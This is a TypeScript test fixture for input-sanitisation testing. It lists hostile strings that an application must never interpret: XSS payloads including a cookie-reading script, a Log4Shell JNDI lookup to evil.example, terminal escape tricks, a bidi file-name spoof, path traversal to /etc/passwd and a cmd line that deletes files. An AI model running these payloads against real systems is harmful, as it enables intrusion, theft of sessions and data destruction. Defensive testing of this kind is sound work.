/** Strings that must never be interpreted: markup, script, terminal escapes, bidi tricks, control chars. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.cookie)</script>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '\u001b[31mRED\u001b[0m \u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  '\u001b[2J\u001b[H cleared',
  'invoice\u202Efdp.exe',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'nul\u0000byte and bell\u0007',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("alert(1)")()}}',
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\cmd.exe /c "calc & del /q *"',
  '%s%s%s%n',
  '🙂 emoji 𝕏 and combining a\u0301\u0301\u0301',
];

/** A very long string (for truncation and layout limits). */
export function veryLongString(length = 100_000): string {
  const unit = 'A very long value that keeps going; ';
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}
